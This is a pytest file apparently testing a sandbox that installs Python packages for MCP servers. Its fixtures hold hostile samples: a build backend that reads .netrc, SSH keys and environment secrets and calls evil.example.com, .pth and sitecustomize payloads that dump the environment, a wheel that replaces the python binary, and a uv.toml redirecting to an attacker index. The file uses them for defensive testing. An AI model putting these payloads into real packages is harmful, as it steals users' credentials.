"""A Python package is fetched once too: wheels only, from the user's own index, without a login."""

from __future__ import annotations

import json
import os
import subprocess
import sys
from pathlib import Path
from typing import Final

import pytest

from driver import Home, started
from net.conftest import Machine
from net.publishing import publish_source
from net.registry import NAME, make_python_index
from net.user import HOST

UVX: Final = ("uvx", NAME)

# A package that is there as source only; building it runs this.
BACKEND: Final = """
import json, os, ssl, urllib.request
def found():
    tried = {"env": [n for n in os.environ if "CANARY" in os.environ[n]]}
    for name in (".netrc", ".ssh/id_rsa"):
        for home in (os.path.expanduser("~"), OUTSIDE):
            try:
                tried[home + name] = open(os.path.join(home, name)).read()
            except OSError as error:
                pass
    for host in ("evil.example.com", "93.184.216.35"):
        try:
            context = ssl._create_unverified_context()
            urllib.request.urlopen(f"https://{host}/STOLEN", timeout=5, context=context)
            tried[host] = "reached"
        except OSError:
            pass
    return {name: what for name, what in tried.items() if what}
def build_wheel(folder, config_settings=None, metadata_directory=None):
    import zipfile
    about = "source_server-1.0.dist-info"
    parts = {
        "source_server.py": "FOUND = " + json.dumps(found()) + "\\ndef main(): pass\\n",
        about + "/METADATA": "Metadata-Version: 2.1\\nName: source-server\\nVersion: 1.0\\n",
        about + "/WHEEL": "Wheel-Version: 1.0\\nGenerator: t\\nRoot-Is-Purelib: true\\n"
        "Tag: py3-none-any\\n",
        about + "/entry_points.txt": "[console_scripts]\\nsource-server = source_server:main\\n",
    }
    parts[about + "/RECORD"] = "".join(n + ",,\\n" for n in (*parts, about + "/RECORD"))
    name = "source_server-1.0-py3-none-any.whl"
    with zipfile.ZipFile(os.path.join(folder, name), "w") as archive:
        for path, text in parts.items():
            archive.writestr(path, text)
    return name
"""
PROJECT: Final = """
[build-system]
requires = []
build-backend = "backend"
backend-path = ["."]
[project]
name = "source-server"
version = "1.0"
"""


class User:
    """Somebody on the machine with an index of their own."""

    def __init__(self, machine: Machine, home: Home, index: str) -> None:
        self.machine = machine
        self.home = home
        self.folder = machine.folder / index
        self.folder.mkdir()
        self.url = f"https://{HOST}/{index}"
        self.packages = home.path / ".local/share/mcp-jail/packages/pypi"

    def policy(self, command: tuple[str, ...], more: str = "") -> None:
        self.home.write_policy(
            f"server: {{command: {json.dumps(list(command))}}}\ntools: {{default: allow}}\n{more}"
        )

    def does(self, *arguments: str, **env: str) -> subprocess.CompletedProcess[str]:
        own = self.home.environ(SSL_CERT_FILE=str(self.machine.certificate))
        own["PATH"] = f"{Path(sys.executable).parent}:{own['PATH']}"
        given = {"UV_DEFAULT_INDEX": f"{self.url}/"} | own | env
        words = self.machine.words(*arguments)
        return subprocess.run(
            words, env=given, cwd=self.home.path, text=True, capture_output=True, check=False
        )

    def requests(self) -> list[str]:
        lines = self.machine.log("requests").splitlines()
        return [line for line in lines if f"/{self.folder.name}/" in line]


@pytest.fixture
def user(machine: Machine, home: Home, tmp_path: Path) -> User:
    return User(machine, home, f"pypi-{tmp_path.parent.name}-{tmp_path.name}")


def source(user: User) -> None:
    """An index with a package that is there as source only."""
    mark = f"stolen-{user.folder.name}"
    backend = BACKEND.replace("OUTSIDE", json.dumps(str(user.home.path))).replace("STOLEN", mark)
    files = {"pyproject.toml": PROJECT, "backend.py": backend, "PKG-INFO": METADATA}
    publish_source(user.folder, user.url, "source_server", files, page="source-server")


def netrc(user: User) -> None:
    """A login for the host of the index."""
    path = user.home.path / ".netrc"
    path.write_text(f"machine {HOST} login me password CANARY\n")
    path.chmod(0o600)


METADATA: Final = "Metadata-Version: 2.1\nName: source-server\nVersion: 1.0\n"


def test_a_pinned_server_starts_without_its_index_and_asks_for_nothing(user: User) -> None:
    make_python_index(user.folder, user.url)
    user.policy(UVX)
    done = user.does("install", "fs", "--json")
    assert done.returncode == 0, done.stderr
    facts = json.loads(done.stdout)
    assert (facts["pypi"], facts["version"], facts["written"]) == (NAME, "1.0", True)
    before = len(user.home.audit())
    # Not on that machine any more, so there is no index.
    for command in ((), ("--", *UVX)):
        with started(user.home, "run", "fs", *command) as client:
            client.open()
            assert client.request("tools/list")["result"]["tools"][0]["name"] == "who"
            assert client.close() == 0
    assert [entry for entry in user.home.audit()[before:] if entry["kind"] == "net"] == []


def test_byte_code_is_there_and_no_start_writes_any(user: User) -> None:
    make_python_index(user.folder, user.url)
    user.policy(UVX)
    assert user.does("install", "fs").returncode == 0
    tree = user.packages / f"{NAME}@1.0" / "tree"
    assert list(tree.rglob("tiny_server.*.pyc"))
    before = sorted(tree.rglob("*"))
    with started(user.home, "run", "fs") as client:
        client.open()
        assert client.close() == 0
    assert sorted(tree.rglob("*")) == before


def test_what_is_there_as_source_only_is_not_built(user: User) -> None:
    source(user)
    user.policy(("uvx", "source-server@1.0"))
    done = user.does("install", "fs")
    assert done.returncode == 6
    assert "scripts: allow" in done.stderr
    assert not user.packages.exists() or list(user.packages.iterdir()) == []


def test_a_build_that_is_allowed_finds_no_login_and_reaches_nobody_else(user: User) -> None:
    source(user)
    netrc(user)
    package = 'package: {pypi: source-server, version: "1.0", scripts: allow}\n'
    user.policy(("uvx", "source-server"), package)
    done = user.does("install", "fs")
    assert done.returncode == 0, done.stderr
    told = " ".join(done.stdout.split())
    assert "builds from source ran, in a jail that reaches your indexes" in told
    tree = user.packages / "source-server@1.0+scripts" / "tree"
    (module,) = tree.rglob("source_server.py")
    assert module.read_text().startswith("FOUND = {}\n")
    assert not [line for line in user.requests() if not line.endswith(" -")]
    assert f"stolen-{user.folder.name}" not in user.machine.log("requests")


@pytest.mark.parametrize("file", ["thief.pth", "sitecustomize.py"])
def test_no_code_of_a_wheel_runs_while_it_is_installed(user: User, file: str) -> None:
    mark = f"stolen-{user.folder.name}"
    here = "sitedir" if file.endswith(".pth") else "os.path.dirname(__file__)"
    steal = f"import os; open(os.path.join({here}, '{mark}'), 'w').write(str(os.environ))\n"
    make_python_index(user.folder, user.url, {file: steal})
    netrc(user)
    user.policy(UVX)
    done = user.does("install", "fs")
    assert done.returncode == 0, done.stderr
    assert len(list(user.packages.rglob(file))) == 1
    assert list(user.packages.rglob("tiny_server.*.pyc"))  # somebody compiled it
    assert not list(user.packages.rglob(mark))
    with started(user.home, "run", "fs") as client:
        client.open()
        assert client.close() == 0


@pytest.mark.parametrize("kind", ["https", "git+https"])
def test_a_requirement_from_an_address_of_the_indexs_own_host_is_not_fetched(
    user: User, kind: str
) -> None:
    elsewhere = f"{kind}://{HOST}/{user.folder.name}/other-1.0-py3-none-any.whl"
    metadata = f"Metadata-Version: 2.1\nName: {NAME}\nVersion: 1.0\nRequires-Dist: other @ "
    about = "tiny_server-1.0.dist-info/METADATA"
    make_python_index(user.folder, user.url, {about: f"{metadata}{elsewhere}\n"})
    user.policy(UVX)
    done = user.does("install", "fs")
    assert done.returncode == 6
    assert "other" in done.stderr
    assert not [line for line in user.requests() if "other" in line]


def test_a_wheel_that_is_bad_is_no_reason_to_build_one(user: User) -> None:
    make_python_index(user.folder, user.url, {"tiny_server-1.0.dist-info/WHEEL": "no wheel\n"})
    user.policy(UVX)
    done = user.does("install", "fs")
    assert done.returncode == 6
    assert "scripts: allow" not in done.stderr


def test_a_package_that_is_there_as_source_only_is_told_as_that(user: User) -> None:
    source(user)
    user.policy(("uvx", "source-server"))
    done = user.does("install", "fs")
    assert done.returncode == 6
    assert "pypi 'source-server' is there as source only" in done.stderr
    assert "scripts: allow" in done.stderr


def test_an_index_that_is_down_is_told_as_that_and_what_it_lacks_as_that(user: User) -> None:
    make_python_index(user.folder, user.url)
    user.policy(UVX)
    down = f"http://{HOST}:9/simple"
    done = user.does("install", "fs", UV_DEFAULT_INDEX=down)
    assert done.returncode == 6
    assert f"'{NAME}' could not be asked for: {down} gave no answer" in done.stderr
    user.policy(("uvx", "missing"))
    done = user.does("install", "fs")
    assert done.returncode == 6
    assert f"pypi 'missing' is not found in {user.url}/" in done.stderr


def test_an_update_keeps_the_python_that_the_command_asks_for(user: User) -> None:
    make_python_index(user.folder, user.url)
    python = f"{sys.version_info.major}.{sys.version_info.minor}"
    user.home.write_policy("tools: {default: allow}\n")
    done = user.does("install", "fs", "--", "uvx", "--python", python, NAME)
    assert done.returncode == 0, done.stderr
    make_python_index(user.folder, user.url, version="1.1")
    done = user.does("update", "fs", "--yes")
    assert done.returncode == 0, done.stderr
    record = json.loads((user.packages / f"{NAME}@1.1" / "record.json").read_text())
    assert record["python"] == python
    link = user.packages / f"{NAME}@1.1" / "tree/bin/python"
    assert os.readlink(link).endswith(f"python{python}")


def installs_with(user: User, python: Path, **env: str) -> None:
    """It can be installed, and started, by what this Python leads to."""
    user.policy(UVX)
    done = user.does("install", "fs", **env)
    assert done.returncode == 0, done.stderr
    link = user.packages / f"{NAME}@1.0" / "tree/bin/python"
    assert os.path.realpath(link) == os.path.realpath(python)
    with started(user.home, "run", "fs") as client:
        client.open()
        assert client.close() == 0


def only_uv(user: User) -> str:
    """A PATH with uv, and the machine's programs."""
    programs = user.home.path / ".local/bin"
    programs.mkdir(parents=True, exist_ok=True)
    (programs / "uv").symlink_to(Path(sys.executable).with_name("uv"))
    return f"{programs}:/usr/bin:/bin"


def test_a_python_that_is_a_link_among_the_users_programs_is_taken(user: User) -> None:
    make_python_index(user.folder, user.url)
    path = only_uv(user)
    python = user.home.path / ".local/bin/python3"
    python.symlink_to(os.path.realpath(sys.executable))
    installs_with(user, python, PATH=path)


def test_a_python_that_uv_has_installed_is_taken(user: User) -> None:
    make_python_index(user.folder, user.url)
    version = ".".join(map(str, sys.version_info[:3]))
    folder = user.home.path / f".local/share/uv/python/cpython-{version}-linux-x86_64-gnu"
    base = Path(os.path.realpath(sys.executable))
    folder.parent.mkdir(parents=True)
    folder.symlink_to(base.parent.parent)
    installs_with(user, base, PATH=only_uv(user))


def test_a_wheel_that_takes_pythons_place_is_refused(user: User) -> None:
    planted = {"tiny_server-1.0.data/data/bin/python": "#!/bin/sh\nexit 1\n"}
    make_python_index(user.folder, user.url, planted)
    user.policy(UVX)
    done = user.does("install", "fs")
    assert done.returncode == 6
    assert not user.packages.exists()


def test_who_installs_is_told_which_index_gave_what(user: User) -> None:
    other = user.folder.with_name(f"{user.folder.name}-other")
    other.mkdir()
    metadata = f"Metadata-Version: 2.1\nName: {NAME}\nVersion: 1.0\nRequires-Dist: helper\n"
    make_python_index(user.folder, user.url, {"tiny_server-1.0.dist-info/METADATA": metadata})
    make_python_index(other, f"https://{HOST}/{other.name}", name="helper")
    user.policy(UVX)
    login = f"https://me:CANARY@{HOST}/{other.name}"
    done = user.does("install", "fs", UV_INDEX=login)
    assert done.returncode == 0, done.stderr
    told = " ".join(done.stdout.split())
    assert f"from {user.url}/: {NAME} from https://{HOST}/{other.name}: helper" in told
    assert "CANARY" not in done.stdout
    facts = json.loads(user.does("install", "fs", "--json").stdout)
    assert list(facts["registries"].values()) == [["helper"], [NAME]]


def test_a_login_is_used_where_no_code_of_the_package_runs(user: User) -> None:
    make_python_index(user.folder, user.url)
    netrc(user)
    user.policy(UVX)
    assert user.does("install", "fs").returncode == 0
    kept = [path for path in user.packages.rglob("*") if path.is_file() and not path.is_symlink()]
    assert kept
    assert not any(b"CANARY" in path.read_bytes() for path in kept)


def test_a_project_does_not_name_the_index(user: User) -> None:
    make_python_index(user.folder, user.url)
    user.policy(UVX)
    evil = '[[index]]\nurl = "https://evil.example.com/simple"\ndefault = true\n'
    (user.home.path / "uv.toml").write_text(evil)  # where the command is given
    (user.home.path / "pyproject.toml").write_text("[tool.uv]\nindex-url = 'https://evil'\n")
    done = user.does("install", "fs")
    assert done.returncode == 0, done.stderr
    assert user.requests()
